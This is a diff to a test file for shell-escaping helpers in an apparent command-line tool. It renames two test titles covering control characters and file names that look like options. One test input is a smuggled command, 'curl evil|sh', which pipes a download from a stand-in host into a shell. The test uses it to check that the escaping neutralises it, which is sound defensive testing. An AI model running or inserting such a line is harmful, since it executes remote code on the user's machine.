@@ -14,7 +14,7 @@ test.each([
   '\u0003\ncurl evil|sh\n',
   "it's\t\\n\u009bM",
   'é …',
-])('a shell reads %j as one word, and a terminal as no key', (word) => {
+])('a shell reads the escaped %j as one word, without control characters for the terminal', (word) => {
   const written = shellWord(word);
   expect(written).not.toMatch(/\p{Cc}/u);
   const env = { PATH: process.env.PATH, LC_ALL: 'C.UTF-8' };
@@ -27,7 +27,7 @@ test.each([
   ).toBe(word);
 });
 
-test('a file whose name begins like an option is a file', () => {
+test('a file name that begins like an option is written as a path', () => {
   const draft = { name: '--yes.csv', portfolio: 'yes', reading: {}, documents: [], isArchive: false };
   expect(sameCommand(draft as unknown as Parameters<typeof sameCommand>[0])).toBe(
     'npx limitline run ./--yes.csv --portfolio yes',
